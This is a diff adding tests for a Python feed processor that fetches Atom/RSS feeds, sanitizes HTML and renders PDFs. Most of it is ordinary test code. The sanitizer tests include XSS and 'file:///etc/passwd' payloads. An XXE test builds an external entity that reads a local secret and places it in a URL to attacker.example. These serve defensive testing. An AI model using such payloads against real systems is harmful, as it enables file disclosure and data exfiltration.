@@ -1,11 +1,20 @@
 """Tests for AtomFeedProcessor"""
 
+import hashlib
+import os
 import pytest
 import requests
+import threading
+import time
 from datetime import datetime, timedelta
 from pathlib import Path
 from unittest.mock import MagicMock, mock_open, patch
 
+import feedparser
+from feedparser import FeedParserDict
+
+import main
+from config import Config
 from main import AtomFeedProcessor
 
 
@@ -18,18 +27,105 @@ def processor(tmp_path, mocker):
     mocker.patch("config.Config.setup_directories")
     mocker.patch("main.RemarkableUploader")
     (tmp_path / "logs").mkdir()
-    return AtomFeedProcessor()
+    processor = AtomFeedProcessor()
+    # Let the background renderer warmup finish before tests patch WeasyPrint
+    if processor._warmup_thread is not None:
+        processor._warmup_thread.join()
+    return processor
+
+
+class TestLogging:
+    def test_records_reach_log_file_via_listener(self, processor, tmp_path):
+        processor.logger.info("queued message")
+        processor.stop_logging()
+
+        log_files = list((tmp_path / "logs").glob("atom_processor_*.log"))
+        assert len(log_files) == 1
+        assert "queued message" in log_files[0].read_text()
+
+    def test_stop_logging_is_idempotent(self, processor):
+        processor.stop_logging()
+        processor.stop_logging()
+
+    def test_repeated_setup_does_not_stack_handlers(self, processor, tmp_path):
+        threads_before = threading.active_count()
+        second = AtomFeedProcessor()
+        if second._warmup_thread is not None:
+            second._warmup_thread.join()
+        assert threading.active_count() <= threads_before
+
+        queue_handlers = [
+            h for h in second.logger.handlers
+            if isinstance(h, main.QueueHandler)
+        ]
+        assert len(queue_handlers) == 1
+
+        second.logger.info("logged once")
+        second.stop_logging()
+        log_file = next((tmp_path / "logs").glob("atom_processor_*.log"))
+        assert log_file.read_text().count("logged once") == 1
+
+    def test_run_stops_the_listener(self, processor, mocker, tmp_path):
+        mocker.patch.object(processor, "load_feeds", return_value=[])
+        processor.process_all_feeds()
+        assert main._log_state["running"] is False
+        log_file = next((tmp_path / "logs").glob("atom_processor_*.log"))
+        assert "No feeds to process" in log_file.read_text()
+
+
+class TestWarmup:
+    def test_warmup_renders_to_memory(self, processor, mocker):
+        html = mocker.patch("main.HTML")
+        main._warmup_renderer(processor._css_string)
+        target = html.return_value.write_pdf.call_args[0][0]
+        assert hasattr(target, "getvalue")  # Rendered into a buffer, not a file
+
+    def test_warmup_failure_is_ignored(self, processor, mocker):
+        mocker.patch("main.HTML", side_effect=Exception("no pango"))
+        main._warmup_renderer(processor._css_string)  # Does not raise
+
+    @pytest.mark.parametrize("workers, warms_in_process", [(1, True), (4, False)])
+    def test_warms_up_in_process_only_without_workers(
+        self, processor, mocker, workers, warms_in_process
+    ):
+        mocker.patch.object(Config, "PDF_WORKERS", workers)
+        mocker.patch("main.threading.Thread")
+        fresh = AtomFeedProcessor()
+        assert (fresh._warmup_thread is not None) is warms_in_process
+
+    def test_worker_processes_warm_up_on_start(self, processor, mocker):
+        mocker.patch.object(Config, "PDF_WORKERS", 2)
+        pool = mocker.patch("main.ProcessPoolExecutor")
+        mocker.patch.object(processor, "load_feeds", return_value=["https://feed1.com/atom.xml"])
+        submitted_before_feeds = []
+        mocker.patch.object(
+            processor, "process_feed",
+            side_effect=lambda url: submitted_before_feeds.extend(
+                call.args[0] for call in pool.return_value.submit.call_args_list
+            ) or (0, [])
+        )
+        processor.remarkable_uploader.upload_stream.return_value = {
+            "uploaded": 0, "skipped": 0, "failed": 0
+        }
+
+        processor.process_all_feeds()
+
+        kwargs = pool.call_args.kwargs
+        assert kwargs["initializer"] is main._warmup_renderer
+        assert kwargs["initargs"] == (processor._css_string,)
+        # Every worker is started before the first feed can submit a render
+        assert submitted_before_feeds == [main._start_render_worker] * 2
 
 
 class TestIsEntryRecent:
     def _make_entry(self, hours_ago):
-        """Create a mock feedparser entry published hours_ago hours in the past."""
+        """Create a feedparser entry published hours_ago hours in the past."""
         pub_time = datetime.now() - timedelta(hours=hours_ago)
-        entry = MagicMock()
-        entry.published_parsed = pub_time.timetuple()
-        entry.published = pub_time.strftime('%a, %d %b %Y %H:%M:%S GMT')
-        entry.title = "Test Entry"
-        return entry
+        return FeedParserDict(
+            published_parsed=time.gmtime(pub_time.timestamp()),
+            published=pub_time.strftime('%a, %d %b %Y %H:%M:%S GMT'),
+            title="Test Entry",
+        )
 
     def test_recent_entry_is_recent(self, processor):
         entry = self._make_entry(1)
@@ -41,6 +137,7 @@ class TestIsEntryRecent:
         entry = self._make_entry(48)
         is_recent, date = processor.is_entry_recent(entry)
         assert is_recent is False
+        assert date is None
 
     def test_entry_at_boundary_is_not_recent(self, processor):
         entry = self._make_entry(25)  # Just outside 24h window
@@ -48,19 +145,53 @@ class TestIsEntryRecent:
         assert is_recent is False
 
     def test_entry_with_no_date_returns_false(self, processor):
-        entry = MagicMock(spec=['get'])  # No date attributes, but supports .get()
-        entry.get.return_value = "No Date Entry"
+        entry = FeedParserDict(title="No Date Entry")
         is_recent, date = processor.is_entry_recent(entry)
         assert is_recent is False
         assert date is None
 
     def test_falls_back_to_updated_parsed(self, processor):
-        entry = MagicMock(spec=['updated_parsed', 'title'])
-        entry.title = "Entry"
         pub_time = datetime.now() - timedelta(hours=1)
-        entry.updated_parsed = pub_time.timetuple()
+        entry = FeedParserDict(
+            title="Entry", updated_parsed=time.gmtime(pub_time.timestamp())
+        )
+        is_recent, date = processor.is_entry_recent(entry)
+        assert is_recent is True
+
+    def test_falls_back_to_date_string(self, processor):
+        pub_time = datetime.now() - timedelta(hours=1)
+        entry = FeedParserDict(
+            title="Entry", published=pub_time.strftime('%Y-%m-%d %H:%M:%S')
+        )
         is_recent, date = processor.is_entry_recent(entry)
         assert is_recent is True
+        assert date == pub_time.replace(microsecond=0)
+
+    def test_uses_supplied_cutoff(self, processor):
+        entry = self._make_entry(48)
+        cutoff = datetime.now() - timedelta(hours=72)
+        is_recent, _ = processor.is_entry_recent(entry, cutoff)
+        assert is_recent is True
+
+    def test_parsed_times_are_compared_as_utc(self, processor):
+        processor._start_run_clock(datetime(2025, 7, 28, 12, 0, 0))
+        entry = FeedParserDict(title="Entry")
+        entry["published_parsed"] = time.gmtime(
+            datetime(2025, 7, 28, 11, 0, 0).timestamp()
+        )
+        is_recent, date = processor.is_entry_recent(entry, processor._cutoff)
+        assert is_recent is True
+        assert date == datetime(*entry["published_parsed"][:6])
+
+    def test_malformed_parsed_time_falls_back_to_date_string(self, processor):
+        pub_time = datetime.now() - timedelta(hours=1)
+        entry = FeedParserDict(
+            title="Entry",
+            published_parsed=("not", "a", "date"),
+            published=pub_time.strftime('%Y-%m-%d %H:%M:%S'),
+        )
+        is_recent, _ = processor.is_entry_recent(entry)
+        assert is_recent is True
 
 
 class TestCleanHtmlContent:
@@ -97,6 +228,96 @@ class TestCleanHtmlContent:
         assert "onclick" not in result
         assert 'class="ok"' in result
 
+    def test_removes_nested_blocked_tags(self, processor):
+        html = "<div><object><embed src='x'><p>inner</p></object></div><p>kept</p>"
+        result = processor.clean_html_content(html)
+        assert "<object" not in result
+        assert "<embed" not in result
+        assert "inner" not in result
+        assert "kept" in result
+
+    def test_returns_fragment_without_document_wrapper(self, processor):
+        result = processor.clean_html_content('<p onclick="x">Hello</p>')
+        assert result == "<p>Hello</p>"
+
+    def test_safe_content_skips_parsing(self, processor, mocker):
+        parse = mocker.patch("main.nh3.clean")
+        html = '<p class="intro">Hi <a href="https://example.com">link</a></p>'
+        assert processor.clean_html_content(html) == html
+        parse.assert_not_called()
+        assert processor.stats["html_fast_path"] == 1
+
+    @pytest.mark.parametrize("html", [
+        '<img src="file:///etc/passwd">',
+        '<a href="jav&#x61;script:alert(1)">x</a>',
+        '<a href="java\tscript:alert(1)">x</a>',
+        '<img src="&#102;ile:///etc/passwd">',
+        '<p>text</p></div></div>',
+        '<div><p>unclosed',
+        '<p>Hi <img src="x"',
+        '<p>a</p><!-- <p>b</p>',
+    ])
+    def test_risky_content_matches_nh3_output(self, processor, html):
+        assert processor.clean_html_content(html) == main._sanitize_html(html)
+        assert processor.stats["html_fast_path"] == 0
+
+    @pytest.mark.parametrize("html", [
+        '<p>Hi <a href="/relative/page">link</a><br><img src="https://x/i.png"></p>',
+        '<ul><li>one</li><li>two</li></ul>',
+    ])
+    def test_fast_path_only_takes_content_nh3_keeps(self, processor, html):
+        assert processor.clean_html_content(html) == html
+        assert processor.stats["html_fast_path"] == 1
+        assert main._sanitize_html(html) == html
+
+    def test_keeps_leading_text_and_tails(self, processor):
+        html = 'Intro &amp; more <p onclick="x">Body</p>tail<script>x</script>end'
+        result = processor.clean_html_content(html)
+        assert result == "Intro &amp; more <p>Body</p>tailend"
+
+    def test_document_without_body_is_empty(self, processor):
+        result = processor.clean_html_content("<html><head><script>x</script></head></html>")
+        assert result == ""
+
+    def test_drops_javascript_urls(self, processor):
+        result = processor.clean_html_content('<a href="javascript:evil()" onclick="x">link</a>')
+        assert "javascript" not in result
+        assert "link" in result
+
+    def test_unknown_tags_are_unwrapped(self, processor):
+        result = processor.clean_html_content("<form><p>Text</p></form>")
+        assert result == "<p>Text</p>"
+
+    def test_keeps_inline_svg(self, processor):
+        html = '<svg viewBox="0 0 8 8" onload="x()"><circle r="4" cx="4" cy="4"/></svg>'
+        result = processor.clean_html_content(html)
+        assert result == '<svg viewBox="0 0 8 8"><circle r="4" cx="4" cy="4"></circle></svg>'
+
+    @pytest.mark.parametrize("html", [
+        '<section><p>Body</p></section>',
+        '<video src="https://example.com/v.mp4">Fallback</video>',
+    ])
+    def test_keeps_sectioning_and_media_tags(self, processor, html):
+        assert processor.clean_html_content(html) == html
+
+    def test_keeps_inline_data_images(self, processor):
+        html = '<img src="data:image/png;base64,AAAA" width="3">'
+        assert 'src="data:image/png;base64,AAAA"' in processor.clean_html_content(html)
+
+    def test_removes_comments(self, processor):
+        result = processor.clean_html_content('<!-- tracking --><p style="x">Hi</p>')
+        assert result == "<p>Hi</p>"
+
+    def test_attribute_without_whitespace_is_still_cleaned(self, processor):
+        html = '<p class="a"onclick="evil()">Text</p>'
+        result = processor.clean_html_content(html)
+        assert "onclick" not in result
+
+    def test_uppercase_blocked_tag_is_still_cleaned(self, processor):
+        html = "<p>Hi</p><SCRIPT>alert(1)</SCRIPT>"
+        result = processor.clean_html_content(html)
+        assert "alert" not in result
+
 
 class TestLoadFeeds:
     def test_loads_valid_feeds(self, processor, tmp_path):
@@ -120,6 +341,44 @@ class TestLoadFeeds:
             feeds = processor.load_feeds()
         assert feeds == ["https://example.com/feed.xml"]
 
+    def test_skips_indented_comments_and_crlf(self, processor, tmp_path):
+        feeds_file = tmp_path / "feeds.txt"
+        feeds_file.write_bytes(
+            b"  # indented comment\r\nhttps://example.com/feed.xml\r\n"
+        )
+        with patch("config.Config.FEEDS_FILE", str(feeds_file)):
+            feeds = processor.load_feeds()
+        assert feeds == ["https://example.com/feed.xml"]
+
+    def test_deduplicates_preserving_order(self, processor, tmp_path):
+        feeds_file = tmp_path / "feeds.txt"
+        feeds_file.write_text(
+            "https://b.com/feed\nhttps://a.com/feed\nhttps://b.com/feed\n"
+        )
+        with patch("config.Config.FEEDS_FILE", str(feeds_file)):
+            feeds = processor.load_feeds()
+        assert feeds == ["https://b.com/feed", "https://a.com/feed"]
+
+    def test_skips_malformed_urls(self, processor, tmp_path):
+        feeds_file = tmp_path / "feeds.txt"
+        feeds_file.write_text("example.com/feed\nhttp://example.com/feed\n")
+        with patch("config.Config.FEEDS_FILE", str(feeds_file)):
+            feeds = processor.load_feeds()
+        assert feeds == ["http://example.com/feed"]
+
+    def test_reads_last_line_without_newline(self, processor, tmp_path):
+        feeds_file = tmp_path / "feeds.txt"
+        feeds_file.write_text("https://example.com/a.xml\nhttps://example.com/b.xml")
+        with patch("config.Config.FEEDS_FILE", str(feeds_file)):
+            feeds = processor.load_feeds()
+        assert feeds == ["https://example.com/a.xml", "https://example.com/b.xml"]
+
+    def test_empty_file_returns_empty(self, processor, tmp_path):
+        feeds_file = tmp_path / "feeds.txt"
+        feeds_file.write_text("")
+        with patch("config.Config.FEEDS_FILE", str(feeds_file)):
+            assert processor.load_feeds() == []
+
     def test_missing_file_returns_empty(self, processor, tmp_path):
         with patch("config.Config.FEEDS_FILE", str(tmp_path / "nonexistent.txt")):
             feeds = processor.load_feeds()
@@ -127,15 +386,14 @@ class TestLoadFeeds:
 
 
 class TestExtractEntryData:
-    def test_extracts_basic_fields(self, processor):
-        entry = MagicMock()
-        entry.get.side_effect = lambda key, default="": {
-            "title": "My Title",
-            "author": "Jane Doe",
-            "link": "https://example.com/post",
-            "id": "entry-123",
-        }.get(key, default)
-        entry.content = [MagicMock(value="<p>Body</p>")]
+    def test_extracts_basic_fields(self, processor, make_entry):
+        entry = make_entry(
+            title="My Title",
+            author="Jane Doe",
+            link="https://example.com/post",
+            id="entry-123",
+            content="<p>Body</p>",
+        )
 
         data = processor.extract_entry_data(entry, "My Feed")
 
@@ -144,69 +402,277 @@ class TestExtractEntryData:
         assert data["author"] == "Jane Doe"
         assert data["link"] == "https://example.com/post"
 
-    def test_falls_back_to_summary(self, processor):
-        entry = MagicMock(spec=['get', 'summary'])
-        entry.get.side_effect = lambda key, default="": {
-            "title": "Title",
-            "author": "Author",
-            "link": "",
-            "id": "1",
-        }.get(key, default)
-        entry.summary = "<p>Summary content</p>"
+    def test_fallback_entry_id_is_stable(self, processor, make_entry):
+        entry = make_entry(title="Stable Title", summary="")
+
+        first = processor.extract_entry_data(entry, "Feed")["entry_id"]
+        second = processor.extract_entry_data(entry, "Feed")["entry_id"]
+        assert first == second == "entry_" + hashlib.blake2b(
+            b"Stable Title", digest_size=8
+        ).hexdigest()
+
+    def test_falls_back_to_summary(self, processor, make_entry):
+        entry = make_entry(
+            title="Title", author="Author", link="", id="1",
+            summary="<p>Summary content</p>",
+        )
 
         data = processor.extract_entry_data(entry, "Feed")
         assert "Summary content" in data["content"]
 
-    def test_falls_back_to_description(self, processor):
-        entry = MagicMock(spec=['get', 'description'])
-        entry.get.side_effect = lambda key, default="": {
-            "title": "Title", "author": "Author", "link": "", "id": "1",
-        }.get(key, default)
-        entry.description = "<p>Description content</p>"
+    def test_falls_back_to_description(self, processor, make_entry):
+        entry = make_entry(
+            title="Title", author="Author", link="", id="1",
+            description="<p>Description content</p>",
+        )
 
         data = processor.extract_entry_data(entry, "Feed")
         assert "Description content" in data["content"]
 
 
 class TestFetchFeed:
-    def test_returns_feed_on_success(self, processor, mocker):
-        mock_response = MagicMock()
-        mock_response.content = b"<feed></feed>"
-        mocker.patch("requests.get", return_value=mock_response)
-
-        mock_feed = MagicMock()
-        mock_feed.bozo = False
-        mock_feed.feed.get.return_value = "Test Feed"
-        mock_feed.entries = []
+    def test_returns_feed_on_success(self, processor, mocker, make_feed):
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [b"<feed>", b"</feed>"]
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
+
+        mock_feed = make_feed()
         mocker.patch("feedparser.parse", return_value=mock_feed)
 
         result = processor.fetch_feed("https://example.com/feed.xml")
         assert result is mock_feed
 
-    def test_logs_warning_on_bozo_feed(self, processor, mocker):
-        mock_response = MagicMock()
-        mock_response.content = b"<feed></feed>"
-        mocker.patch("requests.get", return_value=mock_response)
+    def test_logs_warning_on_bozo_feed(self, processor, mocker, make_feed):
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [b"<feed>", b"</feed>"]
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
 
-        mock_feed = MagicMock()
+        mock_feed = make_feed()
         mock_feed.bozo = True
-        mock_feed.feed.get.return_value = "Test Feed"
-        mock_feed.entries = []
         mocker.patch("feedparser.parse", return_value=mock_feed)
 
         result = processor.fetch_feed("https://example.com/feed.xml")
         assert result is mock_feed  # Still returns feed despite bozo
 
+    def test_returns_none_when_feed_too_large(self, processor, mocker):
+        mocker.patch("config.Config.MAX_FEED_BYTES", 8)
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [b"<feed>", b"</feed>"]
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
+        parse = mocker.patch("feedparser.parse")
+
+        result = processor.fetch_feed("https://example.com/feed.xml")
+        assert result is None
+        parse.assert_not_called()
+        mock_response.close.assert_called_once()
+
+    def test_sends_cached_validators(self, processor, mocker):
+        processor._http_cache["https://example.com/feed.xml"] = ('"abc"', "Mon, 28 Jul 2025 06:00:00 GMT")
+        mock_response = MagicMock(status_code=304)
+        get = mocker.patch.object(processor._session, "get", return_value=mock_response)
+        parse = mocker.patch("feedparser.parse")
+
+        result = processor.fetch_feed("https://example.com/feed.xml")
+
+        headers = get.call_args.kwargs["headers"]
+        assert headers["If-None-Match"] == '"abc"'
+        assert headers["If-Modified-Since"] == "Mon, 28 Jul 2025 06:00:00 GMT"
+        assert result is main.NOT_MODIFIED
+        parse.assert_not_called()
+
+    def test_stages_validators_until_feed_completes(self, processor, mocker):
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [b"<feed></feed>"]
+        mock_response.headers = {"ETag": '"v2"', "Last-Modified": "Tue, 29 Jul 2025 06:00:00 GMT"}
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
+        mocker.patch("feedparser.parse", return_value=MagicMock(bozo=False, entries=[]))
+
+        processor.fetch_feed("https://example.com/feed.xml")
+        assert processor._pending_validators["https://example.com/feed.xml"] == (
+            '"v2"', "Tue, 29 Jul 2025 06:00:00 GMT"
+        )
+        assert "https://example.com/feed.xml" not in processor._http_cache
+
+    def test_does_not_stage_validators_for_bozo_feed(self, processor, mocker):
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [b"<feed>"]
+        mock_response.headers = {"ETag": '"v2"'}
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
+        mocker.patch("feedparser.parse", return_value=MagicMock(bozo=True, entries=[]))
+
+        processor.fetch_feed("https://example.com/feed.xml")
+        assert processor._pending_validators == {}
+
     def test_returns_none_on_request_exception(self, processor, mocker):
-        mocker.patch("requests.get", side_effect=requests.RequestException("timeout"))
+        mocker.patch.object(processor._session, "get", side_effect=requests.RequestException("timeout"))
         result = processor.fetch_feed("https://example.com/feed.xml")
         assert result is None
 
     def test_returns_none_on_generic_exception(self, processor, mocker):
-        mocker.patch("requests.get", side_effect=Exception("unexpected"))
+        mocker.patch.object(processor._session, "get", side_effect=Exception("unexpected"))
         result = processor.fetch_feed("https://example.com/feed.xml")
         assert result is None
 
+    def test_retries_connection_error(self, processor, mocker):
+        ok = MagicMock(status_code=200)
+        ok.iter_content.return_value = [b"<feed></feed>"]
+        get = mocker.patch.object(
+            processor._session, "get",
+            side_effect=[requests.ConnectionError("reset"), ok]
+        )
+        sleep = mocker.patch("main.time.sleep")
+        mocker.patch("feedparser.parse", return_value=MagicMock(bozo=False, entries=[]))
+
+        result = processor.fetch_feed("https://example.com/feed.xml")
+
+        assert result is not None
+        assert get.call_count == 2
+        sleep.assert_called_once()
+        assert 0 <= sleep.call_args.args[0] <= 1
+
+    def test_retries_server_error(self, processor, mocker):
+        unavailable = MagicMock(status_code=503)
+        ok = MagicMock(status_code=200)
+        ok.iter_content.return_value = [b"<feed></feed>"]
+        get = mocker.patch.object(processor._session, "get", side_effect=[unavailable, ok])
+        mocker.patch("main.time.sleep")
+        mocker.patch("feedparser.parse", return_value=MagicMock(bozo=False, entries=[]))
+
+        assert processor.fetch_feed("https://example.com/feed.xml") is not None
+        assert get.call_count == 2
+        unavailable.close.assert_called_once()
+
+    def test_gives_up_after_fetch_attempts(self, processor, mocker):
+        mocker.patch.object(Config, "FETCH_ATTEMPTS", 2)
+        get = mocker.patch.object(
+            processor._session, "get", side_effect=requests.Timeout("slow")
+        )
+        sleep = mocker.patch("main.time.sleep")
+
+        assert processor.fetch_feed("https://example.com/feed.xml") is None
+        assert get.call_count == 2
+        sleep.assert_called_once()
+
+    def test_does_not_retry_client_error(self, processor, mocker):
+        not_found = MagicMock(status_code=404)
+        not_found.raise_for_status.side_effect = requests.HTTPError("404")
+        get = mocker.patch.object(processor._session, "get", return_value=not_found)
+        sleep = mocker.patch("main.time.sleep")
+
+        assert processor.fetch_feed("https://example.com/feed.xml") is None
+        get.assert_called_once()
+        sleep.assert_not_called()
+
+
+ATOM_SAMPLE = b"""<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom">
+  <title>Atom Feed</title>
+  <entry>
+    <title>First Post</title>
+    <id>tag:example.com,2025:1</id>
+    <link rel="alternate" href="https://example.com/first"/>
+    <author><name>Jane Doe</name></author>
+    <published>2025-07-28T06:00:00+02:00</published>
+    <updated>2025-07-28T07:00:00Z</updated>
+    <content type="html">&lt;p&gt;Hello&lt;/p&gt;</content>
+  </entry>
+  <entry>
+    <title>Second Post</title>
+    <id>tag:example.com,2025:2</id>
+    <updated>2025-07-29T06:00:00Z</updated>
+    <summary>Just a summary</summary>
+  </entry>
+</feed>"""
+
+RSS_SAMPLE = b"""<?xml version="1.0"?>
+<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
+  <channel>
+    <title>RSS Feed</title>
+    <item>
+      <title>RSS Post</title>
+      <link>https://example.com/rss-post</link>
+      <guid>rss-1</guid>
+      <pubDate>Mon, 28 Jul 2025 06:00:00 GMT</pubDate>
+      <description>Short</description>
+      <content:encoded><![CDATA[<p>Full body</p>]]></content:encoded>
+    </item>
+  </channel>
+</rss>"""
+
+
+class TestParseFeedStreaming:
+    def test_matches_feedparser_for_atom(self):
+        streamed = main._parse_feed_streaming(ATOM_SAMPLE)
+        parsed = feedparser.parse(ATOM_SAMPLE)
+
+        assert streamed.feed.get("title") == parsed.feed.get("title")
+        assert len(streamed.entries) == len(parsed.entries)
+        for ours, theirs in zip(streamed.entries, parsed.entries):
+            for key in ("title", "id", "published_parsed", "updated_parsed"):
+                assert ours.get(key) == theirs.get(key)
+        first = streamed.entries[0]
+        assert first.get("link") == "https://example.com/first"
+        assert first.get("author") == "Jane Doe"
+        assert first.content[0].value == "<p>Hello</p>"
+        assert streamed.entries[1].summary == "Just a summary"
+
+    def test_matches_feedparser_for_rss(self):
+        streamed = main._parse_feed_streaming(RSS_SAMPLE)
+        parsed = feedparser.parse(RSS_SAMPLE)
+
+        assert streamed.feed.get("title") == "RSS Feed"
+        entry = streamed.entries[0]
+        for key in ("title", "id", "link", "published_parsed"):
+            assert entry.get(key) == parsed.entries[0].get(key)
+        assert entry.content[0].value == "<p>Full body</p>"
+        assert entry.summary == "Short"
+
+    def test_does_not_expand_external_entities(self, tmp_path):
+        secret = tmp_path / "secret.txt"
+        secret.write_text("SECRET_TOKEN_123")
+        document = f"""<?xml version="1.0"?>
+<!DOCTYPE feed [<!ENTITY t SYSTEM "file://{secret}">]>
+<feed xmlns="http://www.w3.org/2005/Atom">
+  <title>Feed</title>
+  <entry><title>Post</title>
+    <content type="html">&lt;img src="https://attacker.example/p?&t;"&gt;</content>
+  </entry>
+</feed>""".encode()
+
+        streamed = main._parse_feed_streaming(document)
+        assert "SECRET_TOKEN_123" not in streamed.entries[0].content[0].value
+
+    def test_fetch_feed_streams_large_documents(self, processor, mocker):
+        mocker.patch("config.Config.STREAMING_PARSE_BYTES", 10)
+        mock_response = MagicMock(status_code=200)
+        mock_response.iter_content.return_value = [ATOM_SAMPLE]
+        mock_response.headers = {}
+        mocker.patch.object(processor._session, "get", return_value=mock_response)
+        parse = mocker.patch("feedparser.parse")
+
+        result = processor.fetch_feed("https://example.com/feed.xml")
+        assert len(result.entries) == 2
+        parse.assert_not_called()
+
+
+class TestHttpCache:
+    def test_round_trips_validators(self, processor, tmp_path):
+        processor._http_cache = {"https://example.com/feed.xml": ('"abc"', "")}
+        processor.save_http_cache()
+        assert processor.load_http_cache() == {
+            "https://example.com/feed.xml": ('"abc"', "")
+        }
+
+    def test_missing_cache_file_is_empty(self, processor, mocker, tmp_path):
+        mocker.patch("config.Config.HTTP_CACHE_FILE", str(tmp_path / "missing.json"))
+        assert processor.load_http_cache() == {}
+
+    def test_corrupt_cache_file_is_ignored(self, processor, mocker, tmp_path):
+        cache_file = tmp_path / "cache.json"
+        cache_file.write_text("not json")
+        mocker.patch("config.Config.HTTP_CACHE_FILE", str(cache_file))
+        assert processor.load_http_cache() == {}
+
 
 class TestGetPdfStyles:
     def test_loads_css_from_file(self, processor, tmp_path, mocker):
@@ -228,6 +694,27 @@ class TestGetPdfStyles:
         assert "16px" in result
         assert "600px" in result
 
+    def test_reads_css_file_once(self, processor, tmp_path, mocker):
+        css_file = tmp_path / "style.css"
+        css_file.write_text("body { color: red; }")
+        mocker.patch("config.Config.CSS_FILE", str(css_file))
+        main._load_css.cache_clear()
+        read_text = mocker.spy(Path, "read_text")
+
+        for _ in range(3):
+            assert "red" in processor.get_pdf_styles()
+        assert read_text.call_count == 1
+
+    def test_picks_up_edits_to_css_file(self, processor, tmp_path, mocker):
+        css_file = tmp_path / "style.css"
+        css_file.write_text("body { color: red; }")
+        mocker.patch("config.Config.CSS_FILE", str(css_file))
+        assert "red" in processor.get_pdf_styles()
+
+        css_file.write_text("body { color: blue; }")
+        os.utime(css_file, ns=(0, css_file.stat().st_mtime_ns + 1_000_000))
+        assert "blue" in processor.get_pdf_styles()
+
     def test_falls_back_when_css_missing(self, processor, mocker):
         mocker.patch("config.Config.CSS_FILE", "/nonexistent/style.css")
         result = processor.get_pdf_styles()
@@ -256,13 +743,11 @@ class TestGeneratePdf:
 
         mock_template = MagicMock()
         mock_template.render.return_value = "<html><body>Article</body></html>"
-        processor.template_env = MagicMock()
-        processor.template_env.get_template.return_value = mock_template
+        processor._template = mock_template
 
         mock_html = MagicMock()
-        mock_css = MagicMock()
+        mock_html.write_pdf.side_effect = lambda target, **kwargs: target.write(b"%PDF-1.7")
         mocker.patch("main.HTML", return_value=mock_html)
-        mocker.patch("main.CSS", return_value=mock_css)
 
         entry_data = {"entry_title": "New Article", "content": "<p>text</p>", "author": "Author", "link": "", "entry_id": "1", "feed_title": "My Feed", "generated_date": datetime.now()}
         date = datetime(2025, 7, 28)
@@ -271,14 +756,104 @@ class TestGeneratePdf:
         assert skipped is False
         assert path is not None
         mock_html.write_pdf.assert_called_once()
+        _, kwargs = mock_html.write_pdf.call_args
+        assert kwargs["stylesheets"] == [processor._css_doc]
+        assert path.read_bytes() == b"%PDF-1.7"
+        assert list(path.parent.iterdir()) == [path]  # No leftover temp file
+
+    def test_empty_render_leaves_no_file(self, processor, tmp_path, mocker):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+
+        mock_template = MagicMock()
+        mock_template.render.return_value = "<html></html>"
+        processor._template = mock_template
+        mocker.patch("main.HTML")  # write_pdf writes nothing
+
+        entry_data = {"entry_title": "Empty", "content": "", "author": "", "link": "", "entry_id": "1", "feed_title": "Feed", "generated_date": datetime.now()}
+        path, skipped = processor.generate_pdf(entry_data, datetime(2025, 7, 28), "Feed")
+
+        assert path is None
+        assert list((tmp_path / "Feed").iterdir()) == []
+
+    def test_renders_in_worker_pool_when_available(self, processor, tmp_path, mocker):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+
+        mock_template = MagicMock()
+        mock_template.render.return_value = "<html><body>Article</body></html>"
+        processor._template = mock_template
+        processor._render_pool = MagicMock()
+        html = mocker.patch("main.HTML")
+
+        entry_data = {"entry_title": "Pooled", "content": "", "author": "", "link": "", "entry_id": "1", "feed_title": "My Feed", "generated_date": datetime.now()}
+        path, skipped = processor.generate_pdf(entry_data, datetime(2025, 7, 28), "My Feed")
+
+        assert skipped is False
+        assert path == tmp_path / "My Feed" / "07-28-2025 Pooled.pdf"
+        fn, html_content, css_string, output_path = processor._render_pool.submit.call_args[0]
+        assert fn is main._render_pdf
+        assert css_string == processor._css_string
+        assert output_path == str(path)
+        html.assert_not_called()
+
+    def test_reuses_font_config_and_image_cache(self, tmp_path, mocker):
+        mocker.patch.dict(main._render_state, clear=True)
+        html = MagicMock()
+        html.write_pdf.side_effect = lambda target, **kwargs: target.write(b"%PDF-1.7")
+
+        main._write_pdf_atomic(html, MagicMock(), str(tmp_path / "a.pdf"))
+        main._write_pdf_atomic(html, MagicMock(), str(tmp_path / "b.pdf"))
+
+        first, second = (call.kwargs for call in html.write_pdf.call_args_list)
+        assert first["font_config"] is second["font_config"]
+        assert first["cache"] is second["cache"]
+
+    def test_image_cache_uses_configured_directory(self, tmp_path, mocker):
+        mocker.patch.dict(main._render_state, clear=True)
+        mocker.patch.object(Config, "IMAGE_CACHE_DIR", str(tmp_path / "images"))
+        assert main._render_options()["cache"] == str(tmp_path / "images")
+
+    def test_bounds_in_memory_image_cache(self, mocker):
+        mocker.patch.dict(main._render_state, clear=True)
+        mocker.patch.object(Config, "IMAGE_CACHE_DIR", "")
+        cache = main._render_options()["cache"]
+        cache.update((f"https://x/{i}.png", object()) for i in range(main.IMAGE_CACHE_ENTRIES))
+
+        assert main._render_options()["cache"] is cache
+        assert cache == {}
+
+    def test_in_process_renders_run_one_at_a_time(self, processor, tmp_path, mocker):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        processor._template = MagicMock()
+        processor._template.render.return_value = "<html></html>"
+        mocker.patch("main.HTML")
+        active = []
+        overlapped = threading.Event()
+
+        def write(html_doc, stylesheet, output_path):
+            active.append(output_path)
+            if len(active) > 1:
+                overlapped.set()
+            time.sleep(0.05)
+            active.remove(output_path)
+        mocker.patch("main._write_pdf_atomic", side_effect=write)
+
+        def render(title):
+            entry_data = {"entry_title": title, "content": "", "author": "", "link": "", "entry_id": title, "feed_title": "Feed", "generated_date": datetime.now()}
+            processor.generate_pdf(entry_data, datetime(2025, 7, 28), "Feed")
+        threads = [threading.Thread(target=render, args=(f"Article {i}",)) for i in range(3)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+        assert not overlapped.is_set()
 
